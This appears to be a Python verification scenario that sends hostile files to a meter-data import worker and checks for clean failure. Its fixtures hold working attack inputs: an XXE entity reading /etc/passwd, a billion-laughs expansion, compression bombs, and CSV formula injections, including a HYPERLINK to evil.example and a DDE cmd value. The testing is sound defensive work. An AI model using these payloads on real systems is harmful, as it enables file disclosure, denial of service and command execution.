"""Hostile files through the real worker: each ends in the state its content calls for, with a
stated error and nothing half imported; the worker stays up, the staging tables go, and good
files sent alongside and after import in full."""

from __future__ import annotations

import gzip
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from verify.report import Check, scenario
from verify.scenarios.imports import batch_state, meter_csv, send, staging_left, sweep_until_done
from verify.world import World

DATA = Path(__file__).resolve().parents[2] / "tests" / "data"
HEADER = b"meter_serial,timestamp,value,unit,kind\n"
GOOD_ROW = b"H1,2026-03-01T00:15:00Z,1.0,kWh,electricity\n"
FAILED = "failed, 0 in"


@dataclass(frozen=True)
class Hostile:
    name: str
    fmt: str
    build: Callable[[World], bytes]
    expected: str  # "<status>, <n> in" or "<status>, <n> rejected"


def _json_beyond_bigint(world: World) -> bytes:
    row = {"meter": "J1", "timestamp": "2026-03-01T00:00:00Z", "value": 1.0, "unit": "kWh"}
    return json.dumps(
        {"readings": [{**row, "kind": "electricity"}, {**row, "duration": 10**25}]}
    ).encode()


def _espi_thirty_digits(world: World) -> bytes:
    text = (DATA / "greenbutton" / "electric_containerized.xml").read_text()
    return text.replace("<value>450</value>", "<value>" + "9" * 30 + "</value>", 1).encode()


def _xxe(world: World) -> bytes:
    return b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&xxe;</title></entry></feed>"""


def _billion_laughs(world: World) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [' + "".join(entities) + "]>\n"
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>'
    ).encode()


def _gzip_bomb(world: World) -> bytes:
    # 64 MB of zeros in 64 KB: no format here takes compressed input, so it is never opened.
    return gzip.compress(b"\0" * (64 << 20), compresslevel=9)


def _zip_bomb(world: World) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readings.csv", HEADER + b"0" * (64 << 20))
    return buffer.getvalue()


def _garbage(world: World) -> bytes:
    return os.urandom(256 << 10)


def _header_only(world: World) -> bytes:
    return HEADER


def _formulas(world: World) -> bytes:
    # Cells a spreadsheet would run: as serials they are refused row by row, as values they
    # are no numbers. The good row beside them goes in.
    rows = [
        b'=HYPERLINK("http://evil.example/?"&A1),2026-03-01T00:15:00Z,1.0,kWh,electricity\n',
        b"+SUM(1+1),2026-03-01T00:15:00Z,1.0,kWh,electricity\n",
        b"-2+3,2026-03-01T00:15:00Z,1.0,kWh,electricity\n",
        b"@SUM(A1),2026-03-01T00:15:00Z,1.0,kWh,electricity\n",
        GOOD_ROW,
    ]
    return HEADER + b"".join(rows)


def _formula_value(world: World) -> bytes:
    return HEADER + GOOD_ROW + b"H1,2026-03-01T00:30:00Z,=cmd|'/c calc'!A1,kWh,electricity\n"


def _huge_line(world: World) -> bytes:
    size = (16 if world.fast else 100) << 20
    return HEADER + b"H1,2026-03-01T00:15:00Z," + b"9" * size + b",kWh,electricity\n"


def _not_utf8(world: World) -> bytes:
    return HEADER + b"H\xff\xfe1,2026-03-01T00:15:00Z,1.0,kWh,electricity\n" + GOOD_ROW


def _utf16(world: World) -> bytes:
    return (HEADER + GOOD_ROW).decode().encode("utf-16")


def _dsmr_bad_crc(world: World) -> bytes:
    text = (DATA / "dsmr" / "TELEGRAM_V5.txt").read_text()
    return text.replace("1-0:1.8.1(000004.426*kWh)", "1-0:1.8.1(000009.426*kWh)").encode()


def _dsmr_binary(world: World) -> bytes:
    return bytes(range(256)) * 64


def _deep_json(world: World) -> bytes:
    return b'{"readings": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


HOSTILE = [
    Hostile(
        "JSON integer beyond bigint",
        "json",
        _json_beyond_bigint,
        "done_with_rejections, 1 rejected",
    ),
    Hostile(
        "ESPI value of 30 digits", "espi", _espi_thirty_digits, "done_with_rejections, 1 rejected"
    ),
    Hostile("XML external entity (XXE)", "espi", _xxe, FAILED),
    Hostile("billion laughs", "espi", _billion_laughs, FAILED),
    Hostile("gzip bomb (64 MB of zeros)", "csv", _gzip_bomb, FAILED),
    Hostile("zip bomb (64 MB of zeros)", "csv", _zip_bomb, FAILED),
    Hostile("binary garbage as CSV", "csv", _garbage, FAILED),
    Hostile("binary garbage as DSMR", "dsmr", _dsmr_binary, FAILED),
    Hostile("CSV of a header only", "csv", _header_only, "rejected, 0 in"),
    Hostile("CSV with formula serials", "csv", _formulas, "done_with_rejections, 4 rejected"),
    Hostile("CSV with a formula value", "csv", _formula_value, FAILED),
    Hostile("one huge line", "csv", _huge_line, FAILED),
    Hostile("invalid UTF-8", "csv", _not_utf8, FAILED),
    Hostile("UTF-16 CSV", "csv", _utf16, FAILED),
    Hostile("JSON nested 100,000 deep", "json", _deep_json, FAILED),
    Hostile("DSMR telegram with a bad CRC", "dsmr", _dsmr_bad_crc, "rejected, 1 rejected"),
]


def _seen(state: dict[str, object], expected: str) -> str:
    if expected.endswith("rejected"):
        return f"{state['status']}, {state['rejected']} rejected"
    return f"{state['status']}, {state['inserted']} in"


def _crashes(log: Path) -> int:
    text = log.read_text(errors="replace")
    return sum(text.count(sign) for sign in ("WorkerLostError", "exited with 'signal", "CRITICAL"))


def _first_row_error(batch_id: int) -> str:
    from meters.models import ImportRowError

    row = ImportRowError.objects.filter(batch_id=batch_id).order_by("pk").first()
    return f"line {row.line}: {row.text}" if row else ""


@scenario(
    "hostile files through the worker",
    group="hostile",
    fault="XXE, bombs, garbage, formulas, huge lines, bad encodings and CRCs",
    fast=True,
)
def hostile_files(world: World) -> list[Check]:
    worker = world.worker()
    good = meter_csv(3, 0, 96)
    good_rows = good.count(b"\n") - 1
    half = len(HOSTILE) // 2
    sent: list[tuple[Hostile, int]] = []
    for item in HOSTILE[:half]:
        sent.append((item, send(item.build(world), item.name, fmt=item.fmt)))
    alongside = send(good, "good alongside.csv")
    for item in HOSTILE[half:]:
        sent.append((item, send(item.build(world), item.name, fmt=item.fmt)))
    after = send(meter_csv(3, 96, 192), "good after.csv")

    checks = []
    silent = []
    for item, batch_id in sent:
        sweep_until_done(world, batch_id)
        state = batch_state(batch_id)
        checks.append(
            Check(f"{item.name}: final state", item.expected, _seen(state, item.expected))
        )
        told = str(state["error"]) or _first_row_error(batch_id)
        print(f"[make verify]   {item.name}: {state['status']}: {told[:100]}", flush=True)
        if state["status"] != "done" and not told:
            silent.append(item.name)
    for batch_id in (alongside, after):
        sweep_until_done(world, batch_id)
    stored = int(str(world.scalar("SELECT count(*) FROM meters_reading")))
    accounted = int(str(world.scalar("SELECT coalesce(sum(inserted), 0) FROM meters_importbatch")))
    states = [batch_state(b) for b in (alongside, after)]
    return [
        *checks,
        Check(
            "files not done without a stated error (batch or row)",
            "none",
            ", ".join(silent) or "none",
        ),
        Check(
            "good files alongside and after: state, rows in",
            f"done, {good_rows}; done, {good_rows}",
            "; ".join(f"{s['status']}, {s['inserted']}" for s in states),
        ),
        Check("readings stored = rows the batches say went in", accounted, stored),
        Check("worker still alive (the one started)", True, worker.alive),
        Check("pool processes lost or critical errors in its log", 0, _crashes(worker.log)),
        Check("staging tables left", 0, staging_left(world)),
    ]
